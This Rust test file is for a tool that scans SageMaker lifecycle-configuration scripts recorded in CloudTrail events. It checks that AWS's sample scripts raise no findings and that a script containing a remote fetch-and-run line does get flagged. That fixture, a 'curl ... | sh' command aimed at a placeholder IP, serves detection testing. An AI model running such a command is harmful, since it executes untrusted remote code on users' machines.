//! AWS's own examples of start-up scripts, none of which is worth a look.
//!
//! They are not part of the project: the folder that `SAGETRAIL_TEST_SAMPLE_SCRIPTS` names holds clones of
//! `aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples` and
//! `aws-samples/sagemaker-studio-lifecycle-config-examples`. Without it the test skips and says so.

use std::path::{Path, PathBuf};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use sagetrail::config::{RulesConfig, Scope};
use sagetrail::enrich::rules::RuleSet;
use sagetrail::enrich::{Enriched, Enricher, Origin, enrich};
use serde_json::{Value, json};
use time::macros::datetime;

use crate::support::examples;

const LEVELS: [&str; 3] = ["medium", "high", "critical"];
/// Fewer are no clone of both.
const LEAST_SCRIPTS: usize = 30;

#[test]
fn no_sample_script_of_aws_is_worth_a_look() {
    let Some(folder) = std::env::var_os("SAGETRAIL_TEST_SAMPLE_SCRIPTS") else {
        println!("skipped: AWS's sample scripts, for SAGETRAIL_TEST_SAMPLE_SCRIPTS names no folder");
        return;
    };
    let scripts = scripts_of(Path::new(&folder));
    assert!(scripts.len() >= LEAST_SCRIPTS, "{} scripts in {}", scripts.len(), Path::new(&folder).display());
    let nothing_configured = Enricher::built_in(Scope::Related);
    // With a value for each placeholder no rule is inactive. None of these values trusts what the samples fetch.
    let config = RulesConfig { placeholders: examples::all_values(), ..RulesConfig::default() };
    let configured =
        Enricher { rules: RuleSet::load(&config).unwrap().into(), ..Enricher::built_in(Scope::Related) };
    let mut found = Vec::new();
    for path in &scripts {
        let text = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
        for (name, enricher) in [("nothing configured", &nothing_configured), ("configured", &configured)] {
            for call in ["CreateNotebookInstanceLifecycleConfig", "CreateStudioLifecycleConfig"] {
                let document = document(call, &text, enricher);
                let findings = findings(&document);
                found.extend(findings.map(|title| format!("{}, {name}, {call}: {title}", path.display())));
            }
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// What a script of the right kind and the wrong content comes to, so that silence says something.
#[test]
fn a_sample_script_with_one_bad_line_is_worth_a_look() {
    let enricher = Enricher::built_in(Scope::Related);
    let script = "#!/bin/bash\nset -e\ncurl -s http://203.0.113.66/x | sh\n";
    for call in ["CreateNotebookInstanceLifecycleConfig", "CreateStudioLifecycleConfig"] {
        assert!(findings(&document(call, script, &enricher)).next().is_some(), "{call}");
    }
}

fn findings(document: &Value) -> impl Iterator<Item = String> {
    let findings = document["sagemaker"]["findings"].as_array().cloned().unwrap_or_default();
    let worth = findings
        .into_iter()
        .filter(|finding| finding["level"].as_str().is_some_and(|level| LEVELS.contains(&level)));
    worth.map(|finding| finding["title"].as_str().unwrap_or_default().to_owned())
}

fn document(call: &str, script: &str, enricher: &Enricher) -> Value {
    let content = BASE64_STANDARD.encode(script);
    let parameters = if call == "CreateStudioLifecycleConfig" {
        json!({"studioLifecycleConfigName": "sample", "studioLifecycleConfigAppType": "JupyterLab",
            "studioLifecycleConfigContent": content})
    } else {
        json!({"notebookInstanceLifecycleConfigName": "sample", "onStart": [{"content": content}]})
    };
    let record = json!({
        "eventVersion": "1.11", "eventTime": "2026-11-03T09:14:05Z", "eventSource": "sagemaker.amazonaws.com",
        "eventName": call, "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.10",
        "userIdentity": {"type": "IAMUser", "userName": "ann", "accountId": "111122223333",
            "arn": "arn:aws:iam::111122223333:user/ann"},
        "eventID": "2b0c5e8f-6a1d-4f6e-9c3b-7d2e1f0a9b8c", "requestParameters": parameters,
        "recipientAccountId": "111122223333",
    });
    let origin = Origin { path: "sample", written_at: None, now: datetime!(2026-11-23 12:00 UTC) };
    match enrich(record.to_string().as_bytes(), origin, enricher) {
        Enriched::Selected { document, .. } => serde_json::from_slice(&document.source).unwrap(),
        other => panic!("{other:?}"),
    }
}

/// All shell scripts below a folder.
fn scripts_of(folder: &Path) -> Vec<PathBuf> {
    let mut scripts = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            scripts.extend(scripts_of(&path));
        } else if path.extension().is_some_and(|extension| extension == "sh") {
            scripts.push(path);
        }
    }
    scripts.sort();
    scripts
}
